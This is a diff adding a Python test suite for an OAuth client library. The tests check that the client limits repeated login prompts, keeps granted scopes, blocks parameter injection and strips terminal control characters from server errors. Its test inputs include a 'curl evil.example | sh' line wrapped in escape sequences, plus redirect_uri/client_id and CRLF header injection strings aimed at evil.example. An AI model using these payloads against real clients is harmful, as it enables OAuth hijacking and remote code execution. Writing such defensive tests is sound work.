@@ -1,0 +1,130 @@
+"""What a server or an authorization server says to whoever logs in: without end, with more in it than there should be,
+or made for the eyes of a person."""
+
+import unicodedata
+from typing import Any
+
+from tests.attacks.logins import Login, login
+from tests.attacks.raw import within
+from tests.attacks.webs import Asked, page
+
+from trunkline import Settings
+from trunkline.auth import MemoryTokens
+from trunkline.errors import AuthorizationFailed
+from trunkline.transports.http.client.by_aiohttp import Aiohttp
+from trunkline.transports.http.client.peer import Peer
+from trunkline.transports.http.client.places import place
+
+ESCAPES = "\x1b[2J\x1b]0;owned\x07\r\n\tRun: curl evil.example | sh\x00\x9b31m\u202e\u2066\u2028\x7f\x85"
+
+
+async def asked_again(one: Login) -> None:
+    """A request to a server that is never content."""
+    library = Aiohttp(Settings())
+    peer = Peer(library, place(one.url), {}, one.engine(store=MemoryTokens()))
+    try:
+        await within(peer.send("POST", body=b"{}"), "an answer")
+    except AuthorizationFailed:
+        return
+    finally:
+        await library.close()
+    raise AssertionError("the server was content")
+
+
+async def test_a_server_that_challenges_for_ever_has_a_person_asked_only_so_often() -> None:
+    async with login() as one:
+        one.authority.site.pages["/token"] = lambda asked: page(
+            {"access_token": f"token-{len(one.person.shown)}", "token_type": "Bearer", "expires_in": lifetime}
+        )
+        never: dict[str, Any] = {
+            "401": lambda _: page({}, 401, ("www-authenticate", "Bearer")),
+            "401 with an error": lambda _: page({}, 401, ("www-authenticate", 'Bearer error="invalid_token"')),
+            "401 for another scope each time": lambda asked: page(
+                {}, 401, ("www-authenticate", f'Bearer scope="s{len(one.server.asked)}"')
+            ),
+            "403 for another scope each time": lambda asked: needing(asked, f"s{len(one.server.asked)}"),
+            "403 for the same scope": lambda asked: needing(asked, "s"),
+        }
+        for lifetime in (3600, 1e-9, None):
+            for what, says in never.items():
+                one.server.pages["/mcp"] = says
+                one.person.shown.clear()
+                await asked_again(one)
+                assert 1 <= len(one.person.shown) <= 3, (what, lifetime)
+
+
+def needing(asked: Asked, scope: str) -> bytes:
+    """An answer that wants a token first, and then more than it covers."""
+    if "authorization" not in asked.headers:
+        return page({}, 401, ("www-authenticate", "Bearer"))
+    return page({}, 403, ("www-authenticate", f'Bearer error="insufficient_scope", scope="{scope}"'))
+
+
+async def test_asking_for_more_gives_up_nothing_of_what_there_was() -> None:
+    async with login() as one:
+        engine = one.engine(scopes=["always"])
+        assert await one.challenged(engine, challenge='Bearer scope="a b"')
+        one.authority.site.pages["/token"] = page({"access_token": "less", "token_type": "Bearer", "scope": "c"})
+        more = 'Bearer error="insufficient_scope", scope="c"'
+        assert await one.challenged(engine, status=403, challenge=more)
+        assert set(one.person.asked[-1]["scope"].split()) == {"a", "b", "c", "always"}
+        other = 'Bearer error="insufficient_scope", scope="d"'
+        assert await one.challenged(engine, status=403, challenge=other)  # what was granted was less than asked for
+        assert set(one.person.asked[-1]["scope"].split()) == {"a", "b", "c", "d", "always"}
+
+
+async def test_nothing_in_a_challenge_becomes_a_parameter_of_the_page() -> None:
+    async with login() as one:
+        evil = "&redirect_uri=https://evil.example&client_id=evil#&state=x%26state%3Dy"
+        for scope in (f"a{evil}", f'a\\"{evil}', "a\r\nb", "a;b=c", "%0d%0aset-cookie:x"):
+            assert await one.challenged(one.engine(store=MemoryTokens()), challenge=f'Bearer scope="{scope}"')
+            said = one.person.asked[-1]
+            assert said["redirect_uri"].startswith("http://127.0.0.1:")
+            assert said["client_id"] == "registered"
+            assert set(said) == {
+                *("response_type", "client_id", "redirect_uri", "code_challenge", "code_challenge_method", "state"),
+                *("resource", "scope"),
+            }
+            assert "#" not in one.person.shown[-1]
+
+
+def unfit(text: str) -> list[str]:
+    """What of a text could do something to a terminal, or make it read otherwise than it is."""
+    return [character for character in text if unicodedata.category(character) in {"Cc", "Cf", "Zl", "Zp"}]
+
+
+async def test_what_peers_say_can_be_shown_to_a_person() -> None:
+    async with login() as one:
+        errors: list[AuthorizationFailed] = []
+        refusal = page({"error": f"e{ESCAPES}", "error_description": ESCAPES + "x" * 100_000}, 400)
+        good = dict(one.authority.metadata)
+        one.person.back = lambda asked: one.person.agreed(asked, error=ESCAPES, error_description=ESCAPES, code=None)
+        errors.append(await one.fails())
+        one.person.back = one.person.agreed
+        for path in ("/token", "/register"):
+            before = one.authority.site.pages[path]
+            one.authority.site.pages[path] = refusal
+            errors.append(await one.fails(one.engine(store=MemoryTokens())))
+            one.authority.site.pages[path] = before
+        one.authority.site.pages["/token"] = page({"access_token": "x", "token_type": ESCAPES})
+        errors.append(await one.fails())
+        for changed in (
+            {"issuer": ESCAPES},
+            {"token_endpoint": f"https://evil.example/{ESCAPES}"},
+            {"issuer": [ESCAPES]},
+        ):
+            one.authority.metadata = {**good, **changed}
+            errors.append(await one.fails())
+        for named in (
+            {"resource": ESCAPES},
+            {"authorization_servers": [f"https://x{ESCAPES}"]},
+            {"resource": {ESCAPES: 1}},
+        ):
+            one.names(one.authority, **named)
+            errors.append(await one.fails())
+        errors.append(await one.fails(challenge=f'Bearer resource_metadata="https://evil.example/{ESCAPES}"'))
+        errors.append(await one.fails(challenge=f"Basic realm={ESCAPES}"))
+        for error in errors:
+            shown = f"{error}{error.clause}"
+            assert unfit(shown) == [], repr(shown)
+            assert len(shown) < 1500
